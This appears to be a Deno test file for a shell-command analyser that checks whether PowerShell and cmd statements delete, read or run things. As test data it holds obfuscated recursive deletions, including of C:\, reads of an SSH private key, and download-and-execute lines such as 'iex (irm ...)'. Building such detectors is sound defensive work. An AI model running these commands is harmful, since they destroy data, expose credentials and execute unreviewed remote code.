/** PowerShell and the command prompt, read as what they run. */
import { assert, assertEquals } from "@std/assert";
import { deletes, effectsOf, programs, reads, writes } from "../support.ts";

for (
  const [shell, code] of [
    ["pwsh", "Remove-Item -Recurse -Force y"],
    ["pwsh", "ri y -r -fo"],
    ["pwsh", '$p = "y"; Remove-Item -Recurse $p'],
    ["pwsh", '$c = "Remove-" + "Item"; & $c -Recurse y'],
    ["pwsh", "& { Remove-Item -Recurse y }"],
    ["pwsh", "if ($true) { r`i -r y }"],
    ["pwsh", '"y" | Remove-Item -Recurse'],
    ["pwsh", 'foreach ($f in "y") { ri -r $f }'],
    ["pwsh", 'iex ("ri -r" + " y")'],
    ["pwsh", 'iex ("{0} -r y" -f "ri")'],
    ["pwsh", 'iex ("ri","-r","y" -join " ")'],
    ["pwsh", "cmd /c rd /s /q y"],
    ["pwsh", "bash -c 'rm -r y'".replaceAll("'", '"')],
    ["pwsh", 'Start-Process rm -ArgumentList "-r","y"'],
    ["pwsh", '[IO.Directory]::Delete("y", $true)'],
    ["cmd", "rd /s /q y"],
    ["cmd", "echo x & r^d /s /q y"],
    ["cmd", "set c=rd& %c% /s /q y"],
    ["cmd", "if exist y rd /s /q y"],
    ["cmd", "for /d %i in (x y) do rd /s /q %i"],
    ["cmd", "(call rd /s /q y)"],
    ["cmd", 'powershell -c "ri -r y"'],
  ] as const
) {
  Deno.test(`${shell} deletes: ${code}`, () => {
    assert(deletes(`${shell} ${shell === "cmd" ? "/c" : "-c"} '${code}'`).includes("y"));
  });
}

Deno.test("pwsh -EncodedCommand is decoded", () => {
  const code = btoa([..."Remove-Item -Recurse y"].map((char) => `${char}\0`).join(""));
  assertEquals(deletes(`powershell -enc ${code}`), ["y"]);
  assert(effectsOf("interpret", "powershell -enc $CODE").length > 0);
});

Deno.test("text is data in both", () => {
  assertEquals(deletes("pwsh -c 'Write-Output \"ri -r y\" # ri -r y'"), []);
  assertEquals(deletes("cmd /c 'echo rd /s /q y'"), []);
});

Deno.test("files of Windows lie where they lie elsewhere", () => {
  assertEquals(reads("pwsh -c 'Get-Content $env:USERPROFILE\\.ssh\\id_rsa'"), ["~/.ssh/id_rsa"]);
  assertEquals(reads("cmd /c 'type %USERPROFILE%\\a.txt'"), ["~/a.txt"]);
  assertEquals(writes("pwsh -c '\"x\" > C:\\Users\\ada\\a.txt'"), ["~/a.txt"]);
  assertEquals(deletes("cmd /c 'rd /s /q C:\\'"), ["/"]);
});

Deno.test("a download that is run is code that nobody has read", () => {
  for (
    const statement of [
      "pwsh -c 'iex (irm https://example.com/a)'",
      "pwsh -c 'irm https://example.com/a | iex'",
      "pwsh -c '$w = New-Object Net.WebClient; iex $w.DownloadString(\"https://example.com/a\")'",
      "pwsh -c 'iwr https://example.com/a.exe -OutFile a.exe; .\\a.exe'",
      "cmd /c 'curl -o a.exe https://example.com/a.exe & a.exe'",
    ]
  ) assert(effectsOf("interpret", statement).length > 0, statement);
  assertEquals(effectsOf("interpret", "pwsh -c 'iwr https://example.com/a.zip -OutFile a.zip'"), []);
});

Deno.test("names that Windows gives to programs are theirs", () => {
  assertEquals(programs("npm.cmd run build"), ["npm"]);
  assertEquals(programs("RD.EXE x"), ["rd"]);
});

Deno.test("a statement that only PowerShell or the prompt would take is read as they take it", () => {
  assert(reads("Get-Content $env:USERPROFILE\\.ssh\\id_rsa").includes("~/.ssh/id_rsa"));
  assert(reads("type %USERPROFILE%\\.ssh\\id_rsa").includes("~/.ssh/id_rsa"));
  assert(effectsOf("interpret", "iex (irm https://example.com/i.ps1)").length > 0);
});

Deno.test("PowerShell inside of a text stays text", () => {
  assertEquals(reads("git commit -m 'Get-Content $env:USERPROFILE\\.ssh\\id_rsa'"), []);
  assertEquals(deletes("cat > a.ps1 <<'E'\nRemove-Item -Recurse y\nE"), []);
  assertEquals(deletes("# it's\necho x # Remove-Item -Recurse y"), []);
});

Deno.test("what only looks like the text of a here-document, or like a comment, hides no PowerShell", () => {
  for (
    const statement of [
      "Remove-Item -Recurse y # <<E",
      "echo '<<E'\nRemove-Item -Recurse y\nE",
      "cat <<E\nx\nE\nRemove-Item -Recurse y",
      "# it's\nRemove-Item -Recurse y # it's",
      "pwsh -v; Remove-Item -Recurse y",
      "$n = (Get-Item x); Remove-Item -Recurse y",
    ]
  ) assert(deletes(statement).includes("y"), statement);
});

const LISTS: readonly (readonly [string, string])[] = [
  [`foreach ($d in "C:\\a","C:\\b") { Remove-Item -Recurse $d }`, "C:/a C:/b"],
  [`$l = @("C:\\a", "C:\\b"); foreach ($d in $l) { Remove-Item -Recurse $d }`, "C:/a C:/b"],
  [`$l = "C:\\a","C:\\b"; Remove-Item -Recurse $l`, "C:/a C:/b"],
  [`"C:\\a","C:\\b" | ForEach-Object { Remove-Item -Recurse $_ }`, "C:/a C:/b"],
  [`foreach ($d in "C:\\a") { foreach ($e in "x","y") { Remove-Item -Recurse "$d\\$e" } }`, "C:/a/x C:/a/y"],
  [`$c = "Rxmove-Item" -creplace "x","e"; & $c C:\\a`, "C:/a"],
  [`& (-join ("Remove-", "Item")) C:\\a`, "C:/a"],
  [`Remove-Item (Join-Path C:\\ a)`, "C:/a"],
  [`Remove-Item (Join-Path -Path $env:SystemDrive -ChildPath "\\a")`, "C:/a"],
  [`[IO.Directory]::Delete("C:\\a", 1)`, "C:/a"],
];
for (const [script, expected] of LISTS) {
  Deno.test(`PowerShell deletes ${expected} by ${script}`, () => {
    assertEquals([...new Set(deletes(`pwsh -c '${script}'`))].join(" "), expected);
  });
}

const PROMPTS: readonly (readonly [string, string])[] = [
  ["if exist x (echo y) else rd /s /q C:\\a", "C:/a"],
  ["if exist x (echo y & echo z) else (rd /s /q C:\\a)", "C:/a"],
  ["if not exist x (rd /s /q C:\\a) else echo y", "C:/a"],
  ['start "" /d C:\\Users\\ada /b rd /s /q a', "~/a"],
  ['start "a title" /wait rd /s /q C:\\a', "C:/a"],
  ['start "C:\\a" notepad', ""],
];
for (const [line, expected] of PROMPTS) {
  Deno.test(`the prompt deletes ${expected || "nothing"} by ${line}`, () => {
    assertEquals(deletes(`cmd /c '${line}'`).join(" "), expected);
  });
}
